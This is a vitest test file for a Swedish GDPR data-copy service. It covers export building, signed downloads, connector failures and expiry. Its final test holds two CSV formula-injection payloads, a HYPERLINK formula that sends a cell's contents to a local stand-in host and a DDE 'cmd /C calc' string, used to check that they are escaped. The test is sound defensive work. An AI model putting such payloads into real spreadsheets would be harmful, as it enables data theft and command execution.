// Building, downloading and expiring copies. Shares the database with other test files: the demo
// customer is read (seedDemo is idempotent) and copies are made for people created here.
import { randomUUID } from "node:crypto";
import { existsSync, mkdtempSync, readdirSync, rmSync, utimesSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import path from "node:path";
import type { Readable } from "node:stream";
import { strFromU8, unzipSync } from "fflate";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { ImpersonationActor, PersonActor } from "../../auth/actor";
import { arrayFeed } from "../../connectors/feeds";
import { manualConnector } from "../../connectors/manual";
import { newsletterConnector } from "../../connectors/newsletter";
import { portalConnector } from "../../connectors/portal-db";
import type { Connector, Row } from "../../connectors/types";
import { decryptWith, existingDataKey } from "../../crypto/keys";
import { CATEGORIES } from "../../datamap/policy-map";
import { db, disconnectDb } from "../../db";
import { DEMO_PEOPLE, seedDemo } from "../../seed/demo";
import { createRequest } from "../requests";
import { buildCopy } from "./build";
import { openCopyDownload } from "./download";
import { expireCopies } from "./expire";
import { BOM, parseCsv } from "./formats";
import { freeCopyStatus } from "./free-copy";
import { copyLinkQuery } from "./link";
import { requestCopy } from "./request-copy";

const dir = mkdtempSync(path.join(tmpdir(), "copy-test-"));
const connectors = (): Connector[] => [portalConnector, newsletterConnector({}), manualConnector];

let annaId = "";

beforeAll(async () => {
  await seedDemo();
  annaId = (await db.person.findUniqueOrThrow({ where: { email: DEMO_PEOPLE[0].email } })).id;
});

afterAll(async () => {
  rmSync(dir, { recursive: true, force: true });
  await disconnectDb();
});

function personActor(personId: string, signedInAt = new Date()): PersonActor {
  return { kind: "person", personId, sessionId: `s-${personId}`, userId: `u-${personId}`, signedInAt };
}

/** A copy row and its request, as requestCopy would make them (not a free copy: Anna is shared). */
async function queuedCopy(personId: string) {
  const request = await createRequest(db, { personId, type: "copy", status: "in_progress" });
  return db.copy.create({ data: { personId, requestId: request.id, free: false, status: "queued" } });
}

async function readAll(stream: Readable): Promise<Buffer> {
  const chunks: Buffer[] = [];
  for await (const c of stream) chunks.push(Buffer.from(c as Uint8Array));
  return Buffer.concat(chunks);
}

async function unzipCopy(copyId: string): Promise<Record<string, Uint8Array>> {
  const copy = await db.copy.findUniqueOrThrow({ where: { id: copyId } });
  const { exp, sig } = copyLinkQuery(copy.id, copy.personId, copy.expiresAt!);
  const dl = await openCopyDownload(personActor(copy.personId), { copyId, exp, sig });
  const zip = await readAll(dl.stream);
  expect(zip.length).toBe(dl.size);
  return unzipSync(new Uint8Array(zip));
}

type DataJson = {
  about: { generatedAt: string; language: string };
  sources: { connector: string; status: string; failure?: string }[];
  categories: {
    key: string;
    empty: boolean;
    sections: { key: string; complete: boolean; rowCount: number; columns: { key: string }[]; rows: Row[] }[];
  }[];
};

const ISO = /^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}\.\d{3}Z$/;

describe("the copy of the demo customer", () => {
  it("holds every category with data, and every file parses", async () => {
    const copy = await queuedCopy(annaId);
    expect(await buildCopy(copy.id, { connectors: connectors(), exportDir: dir })).toBe("ready");
    const built = await db.copy.findUniqueOrThrow({ where: { id: copy.id } });
    expect(built.status).toBe("ready");
    expect(built.progress).toBe(100);
    expect(built.expiresAt!.getTime() - built.readyAt!.getTime()).toBe(7 * 86_400_000);
    // Kept in the database (the default), sealed with the person's key: no readable personal data, and
    // nothing left on the builder's disk.
    expect(built).toMatchObject({ storage: "database", filePath: null });
    expect(readdirSync(dir).filter((f) => f.includes(copy.id))).toEqual([]);
    const chunks = await db.copyChunk.findMany({ where: { copyId: copy.id }, orderBy: { n: "asc" } });
    expect(chunks.map((c) => c.n)).toEqual(chunks.map((_, i) => i));
    const sealed = Buffer.concat(chunks.map((c) => Buffer.from(c.data)));
    expect(sealed.length).toBe(built.sizeBytes! + 29);
    const owner = await db.person.findUniqueOrThrow({ where: { id: annaId } });
    expect(sealed.includes(Buffer.from(owner.email))).toBe(false);

    const files = await unzipCopy(copy.id);
    const names = Object.keys(files).sort();
    for (const f of ["README.txt", "data.json", "report.html", "art15.html", "art15.json"])
      expect(names).toContain(f);

    const data = JSON.parse(strFromU8(files["data.json"]!)) as DataJson;
    expect(data.about.language).toBe("sv");
    // Every category of the data map is there, in order; Anna has data in every one of them.
    expect(data.categories.map((c) => c.key)).toEqual(CATEGORIES.map((c) => c.key));
    for (const c of data.categories) {
      expect(c.empty, c.key).toBe(false);
      for (const s of c.sections) {
        expect(s.complete).toBe(true);
        expect(s.rows).toHaveLength(s.rowCount);
        for (const r of s.rows) expect(Object.keys(r)).toEqual(s.columns.map((col) => col.key));
      }
    }
    const section = (cat: string, key: string) =>
      data.categories.find((c) => c.key === cat)!.sections.find((s) => s.key === key)!;
    expect(section("purchases", "orders").rowCount).toBe(
      await db.order.count({ where: { personId: annaId } }),
    );
    expect(section("web_usage", "web_events").rowCount).toBe(
      await db.webEvent.count({ where: { personId: annaId } }),
    );
    expect(section("device", "devices").rowCount).toBe(section("web_usage", "web_events").rowCount);
    expect(section("history", "invoices").rows[0]!.issuedAt).toMatch(ISO);
    // The copy is for the person: the full personnummer, as stored.
    const anna = await db.person.findUniqueOrThrow({ where: { id: annaId } });
    const pnr = decryptWith(await existingDataKey(db, annaId), anna.personnummerEnc);
    expect(pnr).toMatch(/^\d{8}-\d{4}$/);
    expect(section("identity", "identity").rows[0]!.personnummer).toBe(pnr);

    // One CSV per category, UTF-8 with BOM, every row as wide as its header.
    const csvNames = names.filter((n) => n.startsWith("csv/"));
    expect(csvNames).toHaveLength(CATEGORIES.length);
    for (const name of csvNames) {
      const bytes = files[name]!;
      expect([...bytes.slice(0, 3)], name).toEqual([0xef, 0xbb, 0xbf]);
      // Buffer keeps the BOM (TextDecoder, and so strFromU8, would drop it).
      const text = Buffer.from(bytes).toString("utf8");
      expect(text.startsWith(BOM)).toBe(true);
      const rows = parseCsv(text);
      const width = rows[0]!.length;
      for (const r of rows) expect(r.length, name).toBe(width);
    }
    const purchases = parseCsv(strFromU8(files[csvNames.find((n) => n.endsWith("-purchases.csv"))!]!));
    expect(purchases[0]![0]).toBe("Slag av post");
    expect(purchases.length - 1).toBe(
      section("purchases", "orders").rowCount +
        section("purchases", "order_items").rowCount +
        section("purchases", "shipments").rowCount,
    );

    // The report is self-contained: no scripts, nothing to fetch, a CSP that forbids fetching.
    const html = strFromU8(files["report.html"]!);
    expect(html).toContain('<html lang="sv">');
    expect(html).toContain("default-src 'none'");
    expect(html).not.toMatch(/<script|<link|<img|<iframe|@import|url\(|\ssrc=/i);
    expect(html.match(/href="([^"]*)"/g)!.every((h) => h.startsWith('href="#'))).toBe(true);
    expect(html).toContain(pnr!);

    const art15 = JSON.parse(strFromU8(files["art15.json"]!));
    expect(art15.categories).toHaveLength(CATEGORIES.length);
    expect(art15.complaint).toContain("IMY");
    expect(art15.court).toMatch(/domstol/);
    expect(strFromU8(files["art15.html"]!)).toContain("Integritetsskyddsmyndigheten");
    expect(strFromU8(files["README.txt"]!)).toContain("data.json");

    // Staff search recipients without an API (and the unconfigured newsletter partner) by hand: the
    // request stays open until they are done. The person is told the copy is ready.
    const tasks = await db.recipientTask.findMany({ where: { requestId: copy.requestId! } });
    expect(tasks.map((t) => t.recipientKey).sort()).toEqual(
      ["google_analytics", "m365", "newsletter", "paypal", "transport", "wix"].sort(),
    );
    expect(tasks.every((t) => t.kind === "search" && t.status === "open")).toBe(true);
    expect((await db.request.findUniqueOrThrow({ where: { id: copy.requestId! } })).status).toBe(
      "in_progress",
    );
    expect(await db.emailMessage.count({ where: { personId: annaId, kind: "copyReady" } })).toBeGreaterThan(
      0,
    );
    const audited = await db.auditEntry.findFirst({ where: { action: "copy.built", targetId: copy.id } });
    expect(audited?.personId).toBe(annaId);
  });
});

describe("connector failures", () => {
  it("a failing or stalled connector is shown in the copy and becomes a staff task; the rest is complete", async () => {
    const p = await db.person.create({
      data: {
        email: `${randomUUID()}@test.example`,
        firstName: "Fel",
        lastName: "Test",
        phone: "+46701740699",
      },
    });
    const copy = await queuedCopy(p.id);
    const broken: Connector = {
      key: "broken",
      recipients: async () => ["wix"],
      list: async () => {
        throw new Error("boom with someone@example.com in the message");
      },
    };
    const stalled: Connector = {
      key: "stalled",
      recipients: async () => ["google_analytics"],
      list: () => new Promise(() => undefined),
    };
    const section = {
      category: "social",
      key: "social_interactions",
      heldBy: "midway",
      columns: [{ key: "content", type: "string" as const }],
    };
    const midway: Connector = {
      key: "midway",
      recipients: async () => ["m365"],
      list: async () => ({
        status: "ok",
        feeds: [
          {
            ...arrayFeed([section], []),
            count: async () => 5,
            rows: () =>
              (async function* () {
                yield { content: "first" };
                yield { content: "second" };
                throw new Error("connection reset");
              })(),
          },
        ],
      }),
    };
    const result = await buildCopy(copy.id, {
      connectors: [portalConnector, broken, stalled, midway],
      exportDir: dir,
      timeoutMs: 300,
    });
    expect(result).toBe("ready");
    const data = JSON.parse(strFromU8((await unzipCopy(copy.id))["data.json"]!)) as DataJson;
    const sources = new Map(data.sources.map((s) => [s.connector, s]));
    expect(sources.get("portal")?.status).toBe("ok");
    expect(sources.get("broken")).toMatchObject({ status: "failed", failure: "error" });
    expect(sources.get("stalled")).toMatchObject({ status: "failed", failure: "timeout" });
    expect(sources.get("midway")).toMatchObject({ status: "failed", failure: "error" });
    // No message text (which may hold personal data) is kept.
    expect(JSON.stringify(data.sources)).not.toContain("someone@example.com");

    // What the other connectors returned is all there.
    const contact = data.categories.find((c) => c.key === "contact")!;
    expect(contact.sections[0]).toMatchObject({ complete: true, rowCount: 1 });
    expect(contact.sections[0]!.rows[0]).toMatchObject({ email: p.email, phone: "+46701740699" });
    // What the failing feed returned before it broke is kept, marked incomplete.
    const social = data.categories
      .find((c) => c.key === "social")!
      .sections.find((s) => s.key === "social_interactions" && !s.complete)!;
    expect(social.rows).toEqual([{ content: "first" }, { content: "second" }]);

    const tasks = await db.recipientTask.findMany({
      where: { requestId: copy.requestId!, kind: "connector_failed" },
    });
    expect(tasks.map((t) => t.recipientKey).sort()).toEqual(["google_analytics", "m365", "wix"]);
    expect(tasks.every((t) => !JSON.stringify(t.facts).includes("someone@example.com"))).toBe(true);
    const built = await db.copy.findUniqueOrThrow({ where: { id: copy.id } });
    expect(JSON.stringify(built.connectorReport)).toContain('"failure":"timeout"');
  });
});

describe("a failed build", () => {
  it("marks the copy and request failed, leaves no file and does not use up the free copy", async () => {
    const p = await db.person.create({ data: { email: `${randomUUID()}@test.example`, firstName: "Bygg" } });
    const actor = personActor(p.id);
    const first = await requestCopy(actor);
    if (first.kind !== "free") throw new Error("expected a free copy");
    const blocked = path.join(dir, `not-a-dir-${randomUUID()}`);
    writeFileSync(blocked, "a file where the export folder should be");
    expect(await buildCopy(first.copyId, { connectors: connectors(), exportDir: blocked })).toBe("failed");

    const failed = await db.copy.findUniqueOrThrow({ where: { id: first.copyId } });
    expect(failed.status).toBe("failed");
    expect(failed.error).toMatch(/^fs_/);
    expect((await db.request.findUniqueOrThrow({ where: { id: first.requestId } })).status).toBe("failed");
    expect(readdirSync(dir).some((f) => f.startsWith(first.copyId))).toBe(false);
    expect(await db.emailMessage.count({ where: { personId: p.id, kind: "requestUpdate" } })).toBe(1);
    expect(
      await db.auditEntry.count({ where: { action: "copy.build_failed", targetId: first.copyId } }),
    ).toBe(1);

    expect((await freeCopyStatus(db, p.id, new Date(), 12)).available).toBe(true);
    const retry = await requestCopy(actor);
    expect(retry).toMatchObject({ kind: "free", requestId: first.requestId });
    if (retry.kind !== "free") return;
    expect(await buildCopy(retry.copyId, { connectors: connectors(), exportDir: dir })).toBe("ready");
    // A second build of the same copy (a retried job) changes nothing.
    expect(await buildCopy(retry.copyId, { connectors: connectors(), exportDir: dir })).toBe("skipped");
  });
});

describe("downloading", () => {
  async function readyCopy() {
    const p = await db.person.create({ data: { email: `${randomUUID()}@test.example`, firstName: "Ladda" } });
    const first = await requestCopy(personActor(p.id));
    if (first.kind !== "free") throw new Error("expected a free copy");
    await buildCopy(first.copyId, { connectors: connectors(), exportDir: dir });
    const copy = await db.copy.findUniqueOrThrow({ where: { id: first.copyId } });
    return { person: p, copy, link: copyLinkQuery(copy.id, p.id, copy.expiresAt!) };
  }

  it("serves the person it was made for, marks it downloaded, and a re-download is not a new copy", async () => {
    const { person, copy, link } = await readyCopy();
    const actor = personActor(person.id);
    const first = await openCopyDownload(actor, { copyId: copy.id, ...link });
    expect(unzipSync(new Uint8Array(await readAll(first.stream)))["data.json"]).toBeDefined();
    const after = await db.copy.findUniqueOrThrow({ where: { id: copy.id } });
    expect(after.downloadedAt).toBeInstanceOf(Date);

    const again = await openCopyDownload(actor, { copyId: copy.id, ...link });
    expect((await readAll(again.stream)).length).toBe(again.size);
    expect((await db.copy.findUniqueOrThrow({ where: { id: copy.id } })).downloadedAt).toEqual(
      after.downloadedAt,
    );
    expect(await db.copy.count({ where: { personId: person.id } })).toBe(1);
    expect(await db.auditEntry.count({ where: { action: "copy.downloaded", targetId: copy.id } })).toBe(2);
  });

  it("refuses a forged, altered, expired or someone else's link, and serves nothing", async () => {
    const { person, copy, link } = await readyCopy();
    const actor = personActor(person.id);
    const forged = link.sig.slice(0, -2) + (link.sig.endsWith("AA") ? "BB" : "AA");
    await expect(
      openCopyDownload(actor, { copyId: copy.id, exp: link.exp, sig: forged }),
    ).rejects.toMatchObject({
      code: "not_found",
    });
    const later = String(Number(link.exp) + 86_400);
    await expect(
      openCopyDownload(actor, { copyId: copy.id, exp: later, sig: link.sig }),
    ).rejects.toMatchObject({
      code: "not_found",
    });
    const past = copyLinkQuery(copy.id, person.id, new Date(Date.now() - 1000));
    await expect(openCopyDownload(actor, { copyId: copy.id, ...past })).rejects.toMatchObject({
      code: "not_found",
    });

    // Another person, with the link as sent and with a link validly signed for themselves.
    const other = await db.person.create({ data: { email: `${randomUUID()}@test.example` } });
    await expect(openCopyDownload(personActor(other.id), { copyId: copy.id, ...link })).rejects.toMatchObject(
      {
        code: "not_found",
      },
    );
    const theirs = copyLinkQuery(copy.id, other.id, copy.expiresAt!);
    await expect(
      openCopyDownload(personActor(other.id), { copyId: copy.id, ...theirs }),
    ).rejects.toMatchObject({
      code: "not_found",
    });

    // A copy past its expiry (the expiry job has not run yet) is not served either.
    await db.copy.update({ where: { id: copy.id }, data: { expiresAt: new Date(Date.now() - 1000) } });
    await expect(openCopyDownload(actor, { copyId: copy.id, ...link })).rejects.toMatchObject({
      code: "not_found",
    });
    expect((await db.copy.findUniqueOrThrow({ where: { id: copy.id } })).downloadedAt).toBeNull();
    expect(await db.auditEntry.count({ where: { action: "copy.downloaded", targetId: copy.id } })).toBe(0);
  });

  it("needs a recent sign-in and is never allowed to impersonating staff", async () => {
    const { person, copy, link } = await readyCopy();
    const stale = personActor(person.id, new Date(Date.now() - 60 * 60_000));
    await expect(openCopyDownload(stale, { copyId: copy.id, ...link })).rejects.toMatchObject({
      code: "step_up_required",
    });
    const staff: ImpersonationActor = {
      kind: "impersonation",
      personId: person.id,
      staffMemberId: "staff-1",
      role: "admin",
      name: "Staff",
      impersonationId: "imp-1",
      reason: "phone call",
      expiresAt: new Date(Date.now() + 600_000),
      sessionId: "s",
      userId: "u",
      signedInAt: new Date(),
    };
    await expect(openCopyDownload(staff, { copyId: copy.id, ...link })).rejects.toMatchObject({
      code: "forbidden",
    });
    expect((await db.copy.findUniqueOrThrow({ where: { id: copy.id } })).downloadedAt).toBeNull();
  });
});

describe("expiry", () => {
  it("deletes expired copies' files and chunks, marks them expired, and sweeps files no copy owns", async () => {
    const p = await db.person.create({
      data: { email: `${randomUUID()}@test.example`, firstName: "Gammal" },
    });
    const copy = await queuedCopy(p.id);
    await buildCopy(copy.id, { connectors: connectors(), exportDir: dir, storage: "files" });
    const built = await db.copy.findUniqueOrThrow({ where: { id: copy.id } });
    expect(built.storage).toBe("file");
    expect(existsSync(built.filePath!)).toBe(true);
    expect(await db.copyChunk.count({ where: { copyId: copy.id } })).toBe(0);
    // The same person's copy kept in the database (say, requested again after a fee was agreed).
    const inDb = await db.copy.create({ data: { personId: p.id, free: false, status: "queued" } });
    await buildCopy(inDb.id, { connectors: connectors(), exportDir: dir });
    expect(await db.copyChunk.count({ where: { copyId: inDb.id } })).toBeGreaterThan(0);

    const orphan = path.join(dir, `orphan${randomUUID().slice(0, 8)}.zip.enc`);
    const unrelated = path.join(dir, `notes-${randomUUID().slice(0, 8)}.txt`);
    writeFileSync(orphan, "x");
    writeFileSync(unrelated, "x");
    const old = new Date(Date.now() - 24 * 3600_000);
    utimesSync(orphan, old, old);
    utimesSync(unrelated, old, old);

    const later = new Date(built.expiresAt!.getTime() + 60_000);
    const res = await expireCopies(later, dir);
    expect(res.expired).toBeGreaterThanOrEqual(1);
    const expired = await db.copy.findUniqueOrThrow({ where: { id: copy.id } });
    expect(expired.status).toBe("expired");
    expect(expired.filePath).toBeNull();
    expect(existsSync(built.filePath!)).toBe(false);
    expect((await db.copy.findUniqueOrThrow({ where: { id: inDb.id } })).status).toBe("expired");
    expect(await db.copyChunk.count({ where: { copyId: inDb.id } })).toBe(0);
    expect(existsSync(orphan)).toBe(false);
    expect(existsSync(unrelated)).toBe(true);
    expect(await db.auditEntry.count({ where: { action: "copy.expired", targetId: copy.id } })).toBe(1);
  });
});

describe("two attempts at building one copy at once", () => {
  // A worker cut off from the database for a whole lease keeps building while another retries the job.
  it("makes it ready once, stored once, and neither attempt removes the other's", async () => {
    const person = await db.person.create({
      data: {
        email: `two-attempts-${randomUUID().slice(0, 8)}@example.test`,
        firstName: "Two",
        lastName: "Attempts",
      },
    });
    const copy = await queuedCopy(person.id);
    const results = await Promise.all([
      buildCopy(copy.id, { connectors: connectors(), exportDir: dir }),
      buildCopy(copy.id, { connectors: connectors(), exportDir: dir }),
    ]);
    expect(results.filter((r) => r === "ready")).toHaveLength(1);
    const built = await db.copy.findUniqueOrThrow({ where: { id: copy.id } });
    expect(built.status).toBe("ready");
    // One copy's chunks, once; neither attempt left a file behind.
    const chunks = await db.copyChunk.findMany({ where: { copyId: copy.id }, orderBy: { n: "asc" } });
    expect(chunks.map((c) => c.n)).toEqual(chunks.map((_, i) => i));
    expect(readdirSync(dir).filter((f) => f.includes(copy.id))).toEqual([]);
    const files = await unzipCopy(copy.id);
    expect(Object.keys(files)).toContain("data.json");
    expect(await db.emailMessage.count({ where: { personId: person.id, kind: "copyReady" } })).toBe(1);
    expect(await db.auditEntry.count({ where: { targetId: copy.id, action: "copy.built" } })).toBe(1);
  });
});

// Formula injection: text sent through the ingest pipeline that a spreadsheet would run. Before,
// `+` or `-` followed by a digit passed unescaped into csv/*.csv.
describe("text that a spreadsheet would run as a formula", () => {
  it("arrives in the copy's CSV behind an apostrophe, and unchanged in data.json", async () => {
    const { runRecords } = await import("../../import/pipeline");
    const p = await db.person.create({
      data: { email: `${randomUUID()}@test.example`, firstName: "Formel", lastName: "Test" },
    });
    const payloads = [`-1+HYPERLINK("http://127.0.0.1:3499/?"&A1,"x")`, "-2+3+cmd|' /C calc'!A0"];
    const summary = await runRecords(
      "web-events",
      payloads.map((text, i) => ({
        position: i,
        value: {
          externalId: `formula-${randomUUID()}`,
          customerEmail: p.email,
          occurredAt: new Date(Date.now() - 60_000 * (i + 1)).toISOString(),
          kind: "page_view",
          referrer: text,
          browser: text,
        },
      })),
      { positionKey: "index", onResult: () => undefined },
    );
    expect(summary.rejected).toBe(0);
    const copy = await queuedCopy(p.id);
    expect(await buildCopy(copy.id, { connectors: connectors(), exportDir: dir })).toBe("ready");
    const files = await unzipCopy(copy.id);
    const cells = Object.keys(files)
      .filter((n) => n.startsWith("csv/"))
      .flatMap((n) => parseCsv(Buffer.from(files[n]!).toString("utf8")).flat());
    for (const text of payloads) {
      expect(cells.filter((c) => c === `'${text}`).length).toBeGreaterThanOrEqual(2);
      expect(cells).not.toContain(text);
    }
    expect(cells.some((c) => /^[=+\-@\t\r]/.test(c))).toBe(false);
    const data = strFromU8(files["data.json"]!);
    for (const text of payloads) expect(data).toContain(JSON.stringify(text));
  });
});
